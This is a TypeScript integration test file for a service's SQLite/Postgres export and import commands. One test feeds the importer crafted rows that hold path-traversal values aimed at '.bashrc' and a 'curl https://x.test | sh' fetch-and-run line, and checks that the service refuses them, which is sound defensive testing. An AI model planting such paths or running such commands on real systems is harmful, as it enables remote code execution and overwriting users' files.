import { existsSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createClient, type RemoteClient } from '../../src/client/index.ts';
import { createService, type RunningService } from '../../src/service/index.ts';
import { userEnv } from '../support/agent-process.ts';
import { runFlowsync, type CliResult } from '../support/cli.ts';
import { fileEntry, sha256 } from '../support/flows.ts';
import {
  execPostgres,
  readPostgres,
  startPostgresCluster,
  type PostgresCluster,
} from '../support/postgres.ts';
import { readDatabase, startTestService, type TestService } from '../support/service.ts';

/**
 * Issue 26: `flowsync service export` and `import` move a service between SQLite and Postgres, everything included.
 * A real service on SQLite is filled through its functions over HTTP, then moved with the real CLI to a Postgres
 * database (its own cluster, started here) and back to a new SQLite file; each export of the same data is the same
 * bytes, and a service started on the imported database answers as the first one did.
 */
const SECRET = 'lin_api_transfer_0123456789abcdef';
const apiKey = { secret: SECRET, type: 'personal-api-key' as const };
const REPO = { repo_owner: 'acme', repo_name: 'app' };

let dir: string;
let cluster: PostgresCluster;
let password: string;
let svc: TestService;
const clients: RemoteClient[] = [];
const outputs: CliResult[] = [];

function clientsOf(url: string, tokens: { user: string; admin: string }) {
  const user = createClient({
    baseUrl: url,
    auth: { userToken: tokens.user },
    writer: 'ada@laptop:~/code/app',
  });
  const admin = createClient({ baseUrl: url, auth: { adminToken: tokens.admin } });
  clients.push(user, admin);
  return { user, admin };
}

async function flowsync(...args: string[]): Promise<CliResult> {
  const result = await runFlowsync(args, { env: userEnv(join(dir, 'home')), timeoutMs: 60_000 });
  outputs.push(result);
  return result;
}

/** Every kind of row the service keeps, written through its functions. */
async function fill({ user, admin }: ReturnType<typeof clientsOf>): Promise<void> {
  await admin.apiKey.addActivity({
    api_key_tid: 'tid-ada',
    ts: 1_764_000_000_123.5,
    payload: {
      type: 'key-created',
      hash: sha256(SECRET),
      name: 'laptop',
      prefix_4: SECRET.slice(0, 4),
      suffix_4: SECRET.slice(-4),
      user_id: 'u-ada',
    },
  });
  // Three files, then one replaced and one deleted: file_versions holds replaced versions and a tombstone.
  await user.flowDef.syncBatch({
    ...REPO,
    flows: [
      {
        flow_path: 'flows/ci',
        files: [
          fileEntry('build.yml', 'steps: [build]\n'),
          fileEntry('Old.yml', 'steps: [old]\n'),
          fileEntry('déploiement.yml', 'étapes: [déployer] 🚀\n'),
        ],
      },
      { flow_path: 'flows/Zeta', files: [fileEntry('z.yml', 'z: 1\n')] },
    ],
  });
  await user.flowDef.syncBatch({
    ...REPO,
    flows: [
      {
        flow_path: 'flows/ci',
        files: [
          { ...fileEntry('build.yml', 'steps: [build, test]\n'), base_hash: sha256('steps: [build]\n') },
        ],
        deletes: [{ path: 'Old.yml', base_hash: sha256('steps: [old]\n') }],
      },
    ],
  });
  // An operator purged build.yml's past version: history_purges holds its tombstone.
  await admin.flowDef.purgeHistory({ ...REPO, flow_path: 'flows/ci', path: 'build.yml' });
  await user.repoConfig.update({ owner: 'acme', name: 'app', editor: 'code' });
  // Owners whose order differs between byte order ('Zed' first) and a human collation ('acme' first).
  await user.repoConfig.update({ owner: 'Zed', name: 'app', editor: 'vim' });
  const issue = (id: string, identifier: string, title: string, extra: Record<string, unknown> = {}) =>
    admin.webhooks.storeWebhook({
      payload: {
        action: 'create',
        type: 'Issue',
        data: { id, identifier, title, teamId: 'team-eng', ...extra },
      },
      team: 'team-eng',
      status: 'received',
    });
  await issue('i-1', 'ENG-1', 'Fix the login', {
    description: 'The login form forgets the password field',
    priority: 2,
    state: { name: 'Todo' },
    assigneeId: 'u-ada',
  });
  await issue('i-2', 'ENG-2', 'Login form', { parentId: 'i-1' });
  await admin.webhooks.storeWebhook({
    payload: { action: 'create', type: 'Project', data: { id: 'p-1', name: 'Launch' } },
    team: 'team-eng',
    status: 'received',
  });
  await admin.webhooks.storeWebhook({
    payload: { action: 'create', type: 'User', data: { id: 'u-ada', name: 'Ada', email: 'ada@example.com' } },
    team: 'team-eng',
    status: 'received',
  });
  // Two attachments, the second's id sorting first: an issue lists them in arrival order, which must survive.
  for (const id of ['att-b', 'att-a']) {
    await admin.webhooks.handleAttachmentUpdate({
      payload: {
        action: 'create',
        type: 'Attachment',
        data: { id, issueId: 'i-1', url: `https://x.test/${id}` },
      },
    });
  }
  await admin.tracker.workflowStateCacheUpsert({
    team_id: 'team-eng',
    states: [
      { id: 's1', name: 'Todo', normalized_name: 'todo' },
      { id: 's2', name: 'Done', normalized_name: 'done' },
    ],
  });
  await user.slug.log({
    slug: 'wt-1',
    type: 'init-worktree-created',
    ts: 1_764_000_000_456,
    payload: { slug: 'wt-1', type: 'init-worktree-created' },
  });
  await user.task.syncTask({
    task_key: 'ENG-1',
    repo_remote_url: 'git@x:acme/app.git',
    user_email: 'ada@example.com',
  });
  // A member (issue 48): an invite redeemed for a token, and a write credited to her by it.
  const { invite } = await admin.members.add({ name: 'ada', role: 'write' });
  const inviting = createClient({ baseUrl: svc.url, auth: { userToken: invite } });
  clients.push(inviting);
  memberToken = (await inviting.members.redeemInvite({ label: 'laptop' })).token;
  const ada = createClient({
    baseUrl: svc.url,
    auth: { userToken: memberToken },
    writer: 'ada@laptop:~/code/app',
  });
  clients.push(ada);
  await ada.flowDef.syncBatch({
    ...REPO,
    flows: [{ flow_path: 'flows/team', files: [fileEntry('a.yml', 'a: 1\n')] }],
  });
  await admin.members.add({ name: 'bea', role: 'read' });
}

/** The member token `fill` redeemed: never in an export (its SHA-256 is). */
let memberToken = '';

/** What the service answers about everything `fill` wrote. */
async function answers({ user, admin }: ReturnType<typeof clientsOf>) {
  const files = await user.flowDef.listFiles({ ...REPO, with_content: true });
  const versions = [];
  for (const [flow_path, path] of [
    ['flows/ci', 'build.yml'],
    ['flows/ci', 'Old.yml'],
    ['flows/ci', 'déploiement.yml'],
  ] as const) {
    versions.push(await user.flowDef.fileVersions({ ...REPO, flow_path, path }));
  }
  return {
    files: files.files,
    versions,
    issues: await user.tracker.batchIssues({ api_key: apiKey, identifiers: ['ENG-1', 'ENG-2'] }),
    found: (await user.tracker.searchIssues({ api_key: apiKey, query: 'passwo' })).nodes.map(
      (n) => n.identifier,
    ),
    projects: await user.tracker.listProjects({ api_key: apiKey }),
    viewer: await user.tracker.viewer({ api_key: apiKey }),
    states: await admin.tracker.workflowStateCacheGetByTeam({ team_id: 'team-eng' }),
    task: await admin.task.getByTaskKey({ task_key: 'ENG-2', team_external_id: 'team-eng' }),
  };
}

let before: Awaited<ReturnType<typeof answers>>;
let sqliteExport: string;
let postgresUrl: string;

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'flowsync-transfer-'));
  cluster = await startPostgresCluster();
  password = new URL(cluster.url('postgres')).password;
  svc = await startTestService();
  const original = clientsOf(svc.url, svc.tokens);
  await fill(original);
  // The size cap's last cut of the repository (issue 41), as a prune of a busy history leaves it: moved too, and
  // said by file_versions on the other side.
  svc.exec(
    "INSERT INTO history_pruned (repo_id, pruned_at, cap_bytes, versions) SELECT id, '2026-11-20T10:00:00.000Z', 1048576, 3 FROM repos",
  );
  before = await answers(original);
}, 120_000);

afterAll(async () => {
  await Promise.all(clients.splice(0).map((client) => client.close()));
  await svc?.close();
  cluster?.stop();
  rmSync(dir, { recursive: true, force: true });
  // Whatever a test printed, the Postgres password never was (the URLs are shown without it).
  for (const { stdout, stderr } of outputs) expect(stdout + stderr).not.toContain(password);
});

/** A new Postgres database whose text order is a person's (ICU, en-US), not the bytes' as SQLite's is. */
function icuDatabase(): string {
  const name = `flowsync_icu_${outputs.length}`;
  execPostgres(
    cluster.url('postgres'),
    `CREATE DATABASE ${name} TEMPLATE template0 LOCALE_PROVIDER icu ICU_LOCALE 'en-US' LOCALE 'C'`,
  );
  return cluster.url(name);
}

// Each test starts the CLI up to eight times: 54 s for one of them on a loaded two-core machine (the loop beside
// it), against vitest's 60 s.
describe('flowsync service export and import', { timeout: 180_000 }, () => {
  it('exports a running SQLite service to a private file, one JSON line a row', async () => {
    const out = join(dir, 'sqlite.jsonl');
    const result = await flowsync('service', 'export', '--db', svc.dbPath, '--out', out);
    expect(result.stderr).not.toMatch(/flowsync:/);
    expect(result.code).toBe(0);
    expect(result.stdout).toMatch(/^exported 23 tables, \d+ rows to .*sqlite\.jsonl\n$/);
    // Not a terminal: a line per table.
    expect(result.stderr).toContain('exporting file_versions: ');
    expect(statSync(out).mode & 0o777).toBe(0o600);
    sqliteExport = readFileSync(out, 'utf8');
    const [headerText, ...rows] = sqliteExport.trimEnd().split('\n');
    const header = JSON.parse(headerText!) as {
      format: string;
      version: number;
      dialect: string;
      tables: Record<string, { columns: string[]; rows: number }>;
    };
    expect(header).toMatchObject({ format: 'flowsync-service-export', version: 3, dialect: 'sqlite' });
    expect(rows).toHaveLength(Object.values(header.tables).reduce((sum, t) => sum + t.rows, 0));
    // Every table holds rows of the fill, each kind the service keeps (but the tokens' hashes alone, no token).
    for (const [name, { rows: count }] of Object.entries(header.tables))
      expect(count, name).toBeGreaterThan(0);
    expect(sqliteExport).not.toContain(svc.tokens.user);
    expect(sqliteExport).toContain(sha256(svc.tokens.user));
    expect(sqliteExport).not.toContain(memberToken.slice(15));
    expect(sqliteExport).toContain(sha256(memberToken));
    const tombstone = rows
      .map((line) => JSON.parse(line) as { table: string; row: unknown[] })
      .filter((r) => r.table === 'file_versions' && r.row[3] === 'Old.yml');
    expect(tombstone.map((r) => r.row[4])).toEqual([sha256('steps: [old]\n'), null]);
  });

  /** Left out on purpose (src/service/transfer/catalog.ts says why): bookkeeping each database keeps its own. */
  const leftOut = (table: string, _column: string) => table === 'members_epoch';

  it('lists every column of both schemas (a migration that adds one must add it to the export)', async () => {
    const header = JSON.parse(sqliteExport.split('\n')[0]!) as {
      tables: Record<string, { columns: string[] }>;
    };
    const read = readDatabase(svc.dbPath);
    const sqliteTables = read<{ name: string }>(
      "SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' AND name NOT LIKE 'tracker_issues_fts%' AND name <> 'members_epoch' ORDER BY name",
    ).map((t) => t.name);
    expect(Object.keys(header.tables).sort()).toEqual(sqliteTables);
    for (const table of sqliteTables) {
      const columns = read<{ name: string }>('SELECT name FROM pragma_table_info(?)', table).map(
        (c) => c.name,
      );
      // SQLite's implicit rowid is the attachments' arrival order: exported by name.
      const exported = header.tables[table]!.columns.filter(
        (c) => !(table === 'tracker_attachments' && c === 'rowid'),
      );
      expect(exported.sort(), table).toEqual(columns.filter((c) => !leftOut(table, c)).sort());
    }
    const url = await cluster.createDatabase();
    const opened = await createService({ dbPath: url, logLevel: 'silent' });
    await opened.close();
    const columns = readPostgres(url)<{ table_name: string; column_name: string }>(
      "SELECT table_name, column_name FROM information_schema.columns WHERE table_schema = 'public' AND table_name <> 'flowsync_schema' AND column_name <> 'words'",
    );
    const byTable = new Map<string, string[]>();
    for (const { table_name, column_name } of columns.filter((c) => !leftOut(c.table_name, c.column_name)))
      byTable.set(table_name, [...(byTable.get(table_name) ?? []), column_name]);
    expect([...byTable.keys()].sort()).toEqual(sqliteTables);
    for (const [table, names] of byTable)
      expect([...header.tables[table]!.columns].sort(), table).toEqual(names.sort());
    await cluster.dropDatabase(url);
  });

  it('imports into a new Postgres database, whose export is the same bytes but for the header naming it', async () => {
    postgresUrl = await cluster.createDatabase();
    const imported = await flowsync(
      'service',
      'import',
      '--db',
      postgresUrl,
      '--in',
      join(dir, 'sqlite.jsonl'),
    );
    expect(imported.stderr).not.toMatch(/flowsync:/);
    expect(imported.code).toBe(0);
    expect(imported.stdout).toMatch(
      /^imported 23 tables, \d+ rows into postgres:\/\/flowsync:\*\*\*@127\.0\.0\.1:\d+\/flowsync_\w+; each table's count matches the export's\n$/,
    );
    const out = join(dir, 'postgres.jsonl');
    const exported = await flowsync('service', 'export', '--db', postgresUrl, '--out', out);
    expect(exported.code).toBe(0);
    const postgresExport = readFileSync(out, 'utf8');
    expect(postgresExport.split('\n')[0]).toContain('"dialect":"postgres"');
    expect(postgresExport).toBe(sqliteExport.replace('"dialect":"sqlite"', '"dialect":"postgres"'));
  });

  it('imports an export of format 1 (from before members): its rows, with no members and no one credited', async () => {
    // Format 1 as an older flowsync wrote it: without the members' tables, and without the columns added since.
    const [headerText, ...lines] = sqliteExport.trimEnd().split('\n');
    const header = JSON.parse(headerText!) as {
      version: number;
      tables: Record<string, { columns: string[] }>;
    };
    const added: Record<string, string[]> = {
      repo_configs: ['written_by', 'member_id'],
      file_versions: ['member_id', 'token_id'],
      history_purges: ['member_id'],
    };
    const gone = ['members', 'member_tokens', 'invites', 'audit_events'];
    header.version = 1;
    for (const table of gone) delete header.tables[table];
    for (const [table, columns] of Object.entries(added))
      header.tables[table]!.columns = header.tables[table]!.columns.filter((c) => !columns.includes(c));
    const rows = lines
      .map((line) => JSON.parse(line) as { table: string; row: unknown[] })
      .filter(({ table }) => !gone.includes(table))
      .map(({ table, row }) => ({ table, row: row.slice(0, header.tables[table]!.columns.length) }));
    const old = join(dir, 'format-1.jsonl');
    writeFileSync(old, [header, ...rows].map((line) => JSON.stringify(line)).join('\n') + '\n');
    const db = join(dir, 'from-format-1.db');
    const imported = await flowsync('service', 'import', '--db', db, '--in', old);
    expect(imported.stderr).not.toMatch(/flowsync:/);
    expect(imported.code).toBe(0);
    const read = readDatabase(db);
    expect(read('SELECT count(*) AS n FROM members')).toEqual([{ n: 0 }]);
    expect(read('SELECT count(*) AS n FROM file_versions WHERE member_id IS NOT NULL')).toEqual([{ n: 0 }]);
    expect(read('SELECT count(*) AS n FROM file_versions')).toEqual(
      readDatabase(svc.dbPath)('SELECT count(*) AS n FROM file_versions'),
    );
  });

  it('imports the Postgres export back into a new SQLite file: the same bytes again', async () => {
    const db = join(dir, 'back.db');
    const imported = await flowsync('service', 'import', '--db', db, '--in', join(dir, 'postgres.jsonl'));
    expect(imported.code).toBe(0);
    const out = join(dir, 'back.jsonl');
    expect((await flowsync('service', 'export', '--db', db, '--out', out)).code).toBe(0);
    expect(readFileSync(out, 'utf8')).toBe(sqliteExport);
  });

  it("exports rows in the same order whatever the Postgres database's locale (ICU en-US here)", async () => {
    const icu = icuDatabase();
    // The order of text in this database is a person's: 'acme' before 'Zed', where the bytes put 'Z' first.
    expect(readPostgres(icu)("SELECT 'acme' < 'Zed' AS human")).toEqual([{ human: true }]);
    expect((await flowsync('service', 'import', '--db', icu, '--in', join(dir, 'sqlite.jsonl'))).code).toBe(
      0,
    );
    const out = join(dir, 'icu.jsonl');
    expect((await flowsync('service', 'export', '--db', icu, '--out', out)).code).toBe(0);
    expect(readFileSync(out, 'utf8')).toBe(readFileSync(join(dir, 'postgres.jsonl'), 'utf8'));
  });

  it('leaves a Postgres service that answers as the first did, takes its tokens, and writes new rows', async () => {
    const service: RunningService = await createService({ dbPath: postgresUrl, logLevel: 'silent' });
    try {
      expect(service.issuedTokens).toBeNull();
      const moved = clientsOf(service.url, svc.tokens);
      expect(await answers(moved)).toEqual(before);
      expect(before.found).toEqual(['ENG-1']);
      expect(before.issues.nodes[0]!.attachments!.map((a) => a.id)).toEqual(['att-b', 'att-a']);
      // New rows in every table Postgres numbers: each sequence was moved past the imported numbers.
      const written = await moved.user.flowDef.syncBatch({
        ...REPO,
        flows: [
          {
            flow_path: 'flows/ci',
            files: [
              { ...fileEntry('build.yml', 'steps: [ship]\n'), base_hash: sha256('steps: [build, test]\n') },
            ],
          },
        ],
      });
      expect(written).toMatchObject({ files_updated: 1, conflicts: [] });
      const history = await moved.user.flowDef.fileVersions({
        ...REPO,
        flow_path: 'flows/ci',
        path: 'build.yml',
      });
      expect(history.versions).toHaveLength(before.versions[0]!.versions.length + 1);
      await moved.admin.webhooks.storeWebhook({
        payload: {
          action: 'create',
          type: 'Issue',
          data: { id: 'i-3', identifier: 'ENG-3', title: 'After the move' },
        },
        team: 'team-eng',
        status: 'received',
      });
      await moved.admin.webhooks.storeWebhook({
        payload: { action: 'create', type: 'Project', data: { id: 'p-2', name: 'Next' } },
        team: 'team-eng',
        status: 'received',
      });
      await moved.admin.webhooks.handleAttachmentUpdate({
        payload: {
          action: 'create',
          type: 'Attachment',
          data: { id: 'att-0', issueId: 'i-1', url: 'https://x.test/0' },
        },
      });
      const issue = await moved.user.tracker.batchIssues({ api_key: apiKey, identifiers: ['ENG-1'] });
      expect(issue.nodes[0]!.attachments!.map((a) => a.id)).toEqual(['att-b', 'att-a', 'att-0']);
      await moved.user.slug.log({
        slug: 'wt-2',
        type: 'init-worktree-created',
        ts: Date.now(),
        payload: { slug: 'wt-2', type: 'init-worktree-created' },
      });
      await moved.admin.apiKey.addActivity({
        api_key_tid: 'tid-bob',
        ts: Date.now(),
        payload: {
          type: 'key-created',
          hash: sha256('lin_api_bob'),
          name: 'bob',
          prefix_4: 'lin_',
          suffix_4: '_bob',
          user_id: 'u-bob',
        },
      });
      const found = await moved.user.tracker.searchIssues({ api_key: apiKey, query: 'after move' });
      expect(found.nodes.map((n) => n.identifier)).toEqual(['ENG-3']);
    } finally {
      await service.close();
    }
  });

  it('refuses a database that is not empty, and changes nothing in it', async () => {
    const out = join(dir, 'before-refusal.jsonl');
    expect((await flowsync('service', 'export', '--db', postgresUrl, '--out', out)).code).toBe(0);
    const refused = await flowsync(
      'service',
      'import',
      '--db',
      postgresUrl,
      '--in',
      join(dir, 'sqlite.jsonl'),
    );
    expect(refused.code).toBe(2);
    expect(refused.stderr).toMatch(
      /^flowsync: postgres:\/\/flowsync:\*\*\*@[^ ]+ is not empty \(access_tokens: 2 rows, /m,
    );
    expect(refused.stderr).toContain('import into a new database');
    expect(
      refused.stderr
        .trim()
        .split('\n')
        .filter((line) => line.startsWith('flowsync:')),
    ).toHaveLength(1);
    const after = join(dir, 'after-refusal.jsonl');
    expect((await flowsync('service', 'export', '--db', postgresUrl, '--out', after)).code).toBe(0);
    expect(readFileSync(after, 'utf8')).toBe(readFileSync(out, 'utf8'));
  });

  it('exports only a database of the schema it knows, and writes nothing to one it does not (a serve may run on it)', async () => {
    // A SQLite file as the first release left it (schema 1): an older `flowsync serve` may be running on it, and a
    // migration under it would break it.
    const oldFile = join(dir, 'old.db');
    const old = new Database(oldFile);
    old.exec('CREATE TABLE repos (id TEXT PRIMARY KEY, owner TEXT, name TEXT, created_at TEXT)');
    old.pragma('user_version = 1');
    old.close();
    // A Postgres database that holds no service (a mistyped name, another program's): it gets no tables.
    const other = await cluster.createDatabase();
    execPostgres(other, 'CREATE TABLE theirs (id INTEGER)');
    const tablesOf = () =>
      readPostgres(other)<{ tablename: string }>(
        "SELECT tablename FROM pg_tables WHERE schemaname = 'public'",
      );
    const out = join(dir, 'old.jsonl');
    const fromFile = await flowsync('service', 'export', '--db', oldFile, '--out', out);
    expect(fromFile.code).toBe(2);
    expect(fromFile.stderr).toMatch(
      /^flowsync: \S+old\.db is at schema 1 and this flowsync reads \d+: run this flowsync's `serve` on it once \(it brings the schema up to date\), then try again\.\n$/,
    );
    const fromOther = await flowsync('service', 'export', '--db', other, '--out', out);
    expect(fromOther.code).toBe(2);
    expect(fromOther.stderr).toMatch(
      /^flowsync: postgres:\/\/flowsync:\*\*\*@[^ ]+ holds no flowsync service: give --db the database `flowsync serve` uses\.\n$/,
    );
    expect(existsSync(out)).toBe(false);
    expect(readDatabase(oldFile)('PRAGMA user_version')).toEqual([{ user_version: 1 }]);
    expect(readDatabase(oldFile)("SELECT name FROM sqlite_master WHERE name = 'file_versions'")).toEqual([]);
    expect(tablesOf()).toEqual([{ tablename: 'theirs' }]);
    // An import does not bring it up to date either (to refuse it for its rows after): it takes a new database.
    const imported = await flowsync('service', 'import', '--db', oldFile, '--in', join(dir, 'sqlite.jsonl'));
    expect(imported.code).toBe(2);
    expect(imported.stderr).toContain('is at schema 1');
    expect(readDatabase(oldFile)('PRAGMA user_version')).toEqual([{ user_version: 1 }]);
    await cluster.dropDatabase(other);
  });

  it('refuses a file cut short, a garbage file and a newer format, in one line, writing nothing', async () => {
    const cutMidLine = join(dir, 'cut.jsonl');
    writeFileSync(cutMidLine, sqliteExport.slice(0, Math.floor(sqliteExport.length * 0.6)));
    const cutAtLine = join(dir, 'cut-at-line.jsonl');
    writeFileSync(cutAtLine, sqliteExport.split('\n').slice(0, -3).join('\n') + '\n');
    const garbage = join(dir, 'garbage.jsonl');
    writeFileSync(garbage, 'PK\u0003\u0004 not an export at all\n');
    const newer = join(dir, 'newer.jsonl');
    writeFileSync(newer, sqliteExport.replace('"version":3', '"version":4'));
    const expected: [string, RegExp][] = [
      [cutMidLine, /cut\.jsonl is (damaged at line [\d,]+: not a row|incomplete)/],
      [cutAtLine, /cut-at-line\.jsonl is incomplete: it has \d+ rows? of \w+ where its header counts \d+/],
      [garbage, /garbage\.jsonl is not a flowsync service export/],
      [newer, /newer\.jsonl was written by a newer flowsync \(export format 4; this one reads 3\)/],
    ];
    for (const [file, message] of expected) {
      const url = await cluster.createDatabase();
      const sqlite = join(dir, `never-${outputs.length}.db`);
      for (const db of [url, sqlite]) {
        const refused = await flowsync('service', 'import', '--db', db, '--in', file);
        expect(refused.code, file).toBe(2);
        expect(refused.stderr, file).toMatch(message);
        expect(refused.stderr.trim().split('\n'), file).toHaveLength(1);
      }
      // Nothing written: the file is read through before the database is opened, so not even the schema is made.
      expect(existsSync(sqlite)).toBe(false);
      expect(
        readPostgres(url)("SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'"),
      ).toEqual([]);
      await cluster.dropDatabase(url);
    }
  });

  // Issue 36: the service's own rules for paths and hashes (those `sync_batch` applies) hold for an import too, or a
  // crafted file puts in a team's database a path every agent taking the service's copy would write outside its
  // repository. Refused before anything is written, naming the line, the row and why.
  it('refuses a row the service would refuse (unsafe path, hash not of its content), writing nothing', async () => {
    const lines = sqliteExport.trimEnd().split('\n');
    /** The export with the first row of `table` whose `column` is `value` changed by `change`. */
    const crafted = (
      name: string,
      table: string,
      at: number,
      value: unknown,
      change: (row: unknown[]) => void,
    ) => {
      const index = lines.findIndex((line) => {
        const parsed = JSON.parse(line) as { table?: string; row?: unknown[] };
        return parsed.table === table && parsed.row?.[at] === value;
      });
      expect(index, name).toBeGreaterThan(0);
      const { row } = JSON.parse(lines[index]!) as { row: unknown[] };
      change(row);
      const copy = [...lines];
      copy[index] = JSON.stringify({ table, row });
      const file = join(dir, `crafted-${name}.jsonl`);
      writeFileSync(file, `${copy.join('\n')}\n`);
      return { file, line: index + 1 };
    };
    // flow_files: id, flow_id, path, hash, content…; flows: id, repo_id, flow_path…; file_versions: version,
    // repo_id, flow_path, path, hash, content…
    const filePath = (path: string) => (row: unknown[]) => (row[2] = path);
    const cases: [ReturnType<typeof crafted>, RegExp][] = [
      [
        crafted('dotdot', 'flow_files', 2, 'build.yml', filePath('a/../../../.bashrc')),
        /the row of flow_files with id "[^"]+": its path "a\/\.\.\/\.\.\/\.\.\/\.bashrc" has a \.\. segment/,
      ],
      [
        crafted('absolute', 'flow_files', 2, 'build.yml', filePath('/home/ada/.bashrc')),
        /its path "\/home\/ada\/\.bashrc" is absolute/,
      ],
      [crafted('backslash', 'flow_files', 2, 'build.yml', filePath('..\\..\\x')), /contains a backslash/],
      [
        crafted('nul', 'flow_files', 2, 'build.yml', filePath('a\u0000b')),
        /its path "a\\u0000b" contains a NUL byte/,
      ],
      [
        crafted('control', 'flow_files', 2, 'build.yml', filePath('a\u001b[2Jb\nc')),
        /its path "a\\u001b\[2Jb\\nc" contains a control character/,
      ],
      [crafted('empty-segment', 'flow_files', 2, 'build.yml', filePath('a//b')), /has an empty segment/],
      [
        crafted('flow-path', 'flows', 2, 'flows/ci', (row) => (row[2] = 'flows/../../.config/git')),
        /the row of flows with id "[^"]+": its flow_path "flows\/\.\.\/\.\.\/\.config\/git" has a \.\. segment/,
      ],
      [
        crafted('version-path', 'file_versions', 3, 'build.yml', (row) => (row[3] = '../../.bashrc')),
        /the row of file_versions with version \d+: its path "\.\.\/\.\.\/\.bashrc" has a \.\. segment/,
      ],
      [
        crafted('file-hash', 'flow_files', 2, 'build.yml', (row) => (row[4] = 'curl https://x.test | sh\n')),
        /the row of flow_files with id "[^"]+": has a hash that is not the SHA-256 of its content/,
      ],
      [
        crafted(
          'version-hash',
          'file_versions',
          3,
          'build.yml',
          (row) => (row[5] = 'curl https://x.test | sh\n'),
        ),
        /the row of file_versions with version \d+: has a hash that is not the SHA-256 of its content/,
      ],
    ];
    for (const [{ file, line }, reason] of cases) {
      const url = await cluster.createDatabase();
      const sqlite = join(dir, `never-${outputs.length}.db`);
      for (const db of [sqlite, url]) {
        const refused = await flowsync('service', 'import', '--db', db, '--in', file);
        expect(refused.code, file).toBe(2);
        expect(refused.stderr, file).toMatch(new RegExp(`^flowsync: \\S+ is refused at line ${line}: `));
        expect(refused.stderr, file).toMatch(reason);
        expect(refused.stderr, file).toMatch(/, which the service refuses\. Nothing was imported\.\n$/);
        expect(refused.stderr.trim().split('\n'), file).toHaveLength(1);
      }
      // Nothing written: not even the schema.
      expect(existsSync(sqlite)).toBe(false);
      expect(
        readPostgres(url)("SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'"),
      ).toEqual([]);
      await cluster.dropDatabase(url);
    }
  });

  it('refuses to overwrite an export without --force, and names a database it cannot open without its password', async () => {
    const out = join(dir, 'sqlite.jsonl');
    const again = await flowsync('service', 'export', '--db', svc.dbPath, '--out', out);
    expect(again.code).toBe(2);
    expect(again.stderr).toMatch(
      /sqlite\.jsonl exists: choose another --out, or add --force to replace it\.\n$/,
    );
    expect(readFileSync(out, 'utf8')).toBe(sqliteExport);
    const forced = await flowsync('service', 'export', '--db', svc.dbPath, '--out', out, '--force');
    expect(forced.code).toBe(0);
    expect(statSync(out).mode & 0o777).toBe(0o600);

    const wrong = new URL(postgresUrl);
    wrong.password = `${password}x`;
    const denied = await flowsync(
      'service',
      'export',
      '--db',
      wrong.toString(),
      '--out',
      join(dir, 'denied.jsonl'),
    );
    expect(denied.code).toBe(2);
    expect(denied.stderr).toMatch(
      /^flowsync: Postgres at postgres:\/\/flowsync:\*\*\*@.* refused the sign-in: check the user and password/,
    );
    expect(denied.stderr).not.toContain(wrong.password);
    expect(existsSync(join(dir, 'denied.jsonl'))).toBe(false);
  });
});
